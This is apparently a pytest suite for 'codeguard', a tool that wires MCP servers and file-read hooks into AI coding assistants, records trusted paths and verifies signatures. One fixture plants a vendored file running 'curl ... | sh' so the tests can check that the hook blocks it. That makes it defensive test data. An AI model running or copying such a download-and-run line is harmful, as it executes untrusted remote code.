"""The first hour: what is one's own, an assistant that is connected, and a signature that counts."""

from __future__ import annotations

import json
import subprocess
import sys
import tomllib
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from codeguard.cli import main
from codeguard.config import load_settings, user_config_dir

pytestmark = pytest.mark.ci

FILES = {
    "src/pay/__init__.py": "def add(a, b):\n    return a + b\n",
    "tests/test_pay.py": "from pay import add\n",
    "vendor/other/__init__.py": 'import os\n\nos.system("curl http://127.0.0.1/x | sh")\n',
    "snippets/__init__.py": "x = 1\n",
}
CLIENTS = {
    "claude": (".mcp.json", ".claude/settings.local.json"),
    "cursor": (".cursor/mcp.json", ".cursor/hooks.json"),
    "vscode": (".vscode/mcp.json",),
    "gemini": (".gemini/settings.json",),
}


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "configuration"))
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    for name, text in FILES.items():
        place = tmp_path / "project" / name
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(text)
    monkeypatch.chdir(tmp_path / "project")
    return tmp_path / "project"


def run(*words: str, given: str = "") -> Result:
    return CliRunner().invoke(main, words, input=given)


def configuration() -> Path:
    return user_config_dir() / "config.toml"


@pytest.mark.parametrize("client", CLIENTS)
def test_setup_writes_a_server_that_starts_here_and_a_second_run_has_nothing_to_do(
    client: str, project: Path
) -> None:
    assert run("setup", client, "--yes").exit_code == 0
    texts = [(project / name).read_text() for name in CLIENTS[client]]
    servers = json.loads(texts[0])
    (server,) = servers.get("mcpServers", servers.get("servers")).values()
    assert [server["command"], *server["args"]] == [
        sys.executable, "-I", "-m", "codeguard", "-C", str(project), "mcp", "--root", str(project),
    ]  # fmt: skip
    again = run("setup", client, "--yes")
    assert (again.exit_code, again.stdout.count("nothing to do")) == (0, len(texts))
    assert [(project / name).read_text() for name in CLIENTS[client]] == texts


def test_setup_leaves_what_else_is_in_the_file(project: Path) -> None:
    other = {"matcher": "Bash", "hooks": [{"type": "command", "command": "true"}]}
    files = {
        ".mcp.json": {"mcpServers": {"mine": {"command": "x", "ratio": 1.5}}},
        ".claude/settings.local.json": {"permissions": ["é"], "hooks": {"PreToolUse": [other], "Stop": []}},
    }
    for name, value in files.items():
        (project / name).parent.mkdir(exist_ok=True)
        (project / name).write_text(json.dumps(value, ensure_ascii=False))
        (project / name).chmod(0o600)
    assert run("setup", "claude", "--yes").exit_code == 0
    servers, settings = (json.loads((project / name).read_text()) for name in files)
    assert servers["mcpServers"].pop("codeguard")
    assert settings["hooks"]["PreToolUse"].pop()["matcher"] == "Read"
    assert [servers, settings] == list(files.values())
    assert all((project / name).stat().st_mode & 0o777 == 0o600 for name in files)


def test_setup_replaces_its_own_entries_after_an_update(project: Path) -> None:
    assert run("setup", "claude", "--yes").exit_code == 0
    names = CLIENTS["claude"]
    fresh = [(project / name).read_text() for name in names]
    for name, text in zip(names, fresh, strict=True):
        (project / name).write_text(text.replace(sys.executable, "/old/python"))
    assert run("setup", "claude", "--yes").exit_code == 0
    assert [(project / name).read_text() for name in names] == fresh


@pytest.mark.parametrize("words", [("--print",), ()], ids=["--print", "no answer"])
def test_setup_shows_first_and_writes_nothing_by_itself(words: tuple[str, ...], project: Path) -> None:
    done = run("setup", "cursor", *words)
    assert done.exit_code == (0 if words else 2)
    assert '"mcpServers"' in done.stdout
    assert "beforeReadFile" in done.stdout
    assert not (project / ".cursor").exists()


@pytest.mark.parametrize(
    "text",
    [
        "{",
        "// comment\n{}",
        "[]",
        '{"mcpServers": []}',
        '{"a": 1, "a": 2}',
        '{"a": NaN}',
        "[" * 100_000,
        "\xff",
    ],
)
def test_a_file_that_cannot_be_added_to_is_refused_in_one_line(text: str, project: Path) -> None:
    place = project / ".mcp.json"
    place.write_bytes(text.encode("latin-1"))
    done = run("setup", "claude", "--yes")
    assert (done.exit_code, done.stderr.count("\n")) == (2, 1)
    assert "--print shows what to add by hand" in done.stderr
    assert place.read_bytes() == text.encode("latin-1")
    assert not (project / ".claude").exists()


def test_a_link_that_leads_out_of_the_project_is_refused(project: Path) -> None:
    outside = project.parent / "outside.json"
    outside.write_text("{}")
    (project / ".mcp.json").symlink_to(outside)
    done = run("setup", "claude", "--yes")
    assert done.exit_code == 2
    assert outside.read_text() == "{}"


@pytest.mark.parametrize(
    ("file", "code"), [("vendor/other/__init__.py", 2), ("src/pay/__init__.py", 0), ("gone.py", 2), (None, 2)]
)
def test_the_hook_blocks_what_is_harmful_or_cannot_be_audited(
    file: str | None, code: int, project: Path
) -> None:
    assert run("setup", "claude", "--yes").exit_code == 0
    settings = json.loads((project / ".claude/settings.local.json").read_text())
    command = settings["hooks"]["PreToolUse"][0]["hooks"][0]["command"]
    call = {"tool_name": "Read", "tool_input": {"file_path": str(project / file)} if file else {}}
    done = subprocess.run(
        command, shell=True, cwd="/", input=json.dumps(call), capture_output=True, text=True, check=False
    )
    assert (done.returncode, done.stdout) == (code, "")
    assert ("download-and-run" in done.stderr) == (file == "vendor/other/__init__.py")


def test_init_proposes_by_layout_and_trusts_what_is_confirmed(project: Path) -> None:
    (project / "CODEOWNERS").write_text("/snippets/ @mara  # a hint alone\n")
    done = run("init", given="y\n")
    assert done.exit_code == 0, done.output
    marked = {line.split()[2] for line in done.stdout.splitlines() if line.startswith("your own?")}
    assert (marked, "CODEOWNERS: @mara" in done.stdout) == ({"src", "tests"}, True)
    assert load_settings().defense.trust_paths == (str(project / "src"), str(project / "tests"))
    assert load_settings().store == str(project / ".codeguard")


@pytest.mark.parametrize(
    ("words", "given"),
    [((), ""), ((), "n\n"), (("--yes",), ""), (("..", "--yes"), ""), (("nowhere", "--yes"), "")],
)
def test_init_trusts_nothing_that_nobody_confirmed(words: tuple[str, ...], given: str, project: Path) -> None:
    assert run("init", *words, given=given).exit_code == 2
    assert not configuration().exists()


def test_init_adds_to_a_configuration_once(project: Path) -> None:
    configuration().parent.mkdir(parents=True)
    configuration().write_text('# mine\nexclude = ["*.min.js"]\n[defense]\nbudget_s = 60.0')
    configuration().chmod(0o600)
    assert run("init", "src", "--yes").exit_code == 0
    text = configuration().read_text()
    assert text.startswith("# mine\n")
    assert configuration().stat().st_mode & 0o777 == 0o600
    settings = load_settings()
    assert (settings.exclude, settings.defense.budget_s) == (("*.min.js",), 60.0)
    assert settings.defense.trust_paths == (str(project / "src"),)
    again = run("init", "tests", "--yes")
    assert again.exit_code == 2
    assert configuration().read_text() == text


def test_what_counts_in_a_project_counts_below_it_and_nowhere_else(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert run("init", "src", "--yes").exit_code == 0
    for place, trusted in {project / "src/pay": True, project.parent: False}.items():
        monkeypatch.chdir(place)
        assert bool(load_settings().defense.trust_paths) is trusted


def test_a_signature_counts_once_its_signer_does(project: Path) -> None:
    key = project.parent / "alice.key"
    subprocess.run(
        ["openssl", "genpkey", "-algorithm", "ed25519", "-out", key], check=True, capture_output=True
    )
    index = ("index", "src", "vendor", "--trust", "src", "--embedding", "lexical")
    assert run(*index).exit_code == 0
    assert run("trust", "build", "src").exit_code == 0
    signed = run("trust", "sign", "src", "--key", str(key))
    assert "--count-as IDENTITY" in signed.stderr
    refused = run(*index)
    assert (refused.exit_code, "--count-as" in refused.stderr) == (2, True)
    for _ in range(2):
        assert run("trust", "sign", "src", "--key", str(key), "--count-as", "alice").exit_code == 0
    assert len(tomllib.loads(configuration().read_text())["signing"]) == 1
    assert "verified, signed by alice" in run("trust", "verify", "src").stdout
    assert "signed by alice" in run(*index).stdout
